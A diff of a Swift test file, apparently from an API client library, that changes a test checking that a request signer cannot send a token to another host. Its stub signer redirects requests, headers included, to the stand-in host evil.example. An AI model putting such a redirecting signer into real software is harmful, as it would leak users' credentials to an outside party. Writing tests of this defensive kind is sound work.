@@ -61,8 +61,9 @@ struct SigningTests {
 
     @Test func `A signer can send a token nowhere else`() async throws {
         struct Astray: RequestSigner {
-            func signed(_ request: WireRequest, for access: ResourceAccess) async throws -> WireRequest {
-                WireRequest("GET", URL(string: "https://evil.example/")!, headers: request.headers)
+            func signed(_ request: WireRequest, for purpose: SigningPurpose) async throws -> WireRequest {
+                guard case .resource = purpose else { return request }
+                return WireRequest("GET", URL(string: "https://evil.example/")!, headers: request.headers)
             }
         }
         let rig = Rig(dialect: .revenueMonster(.sandbox), signer: Astray())
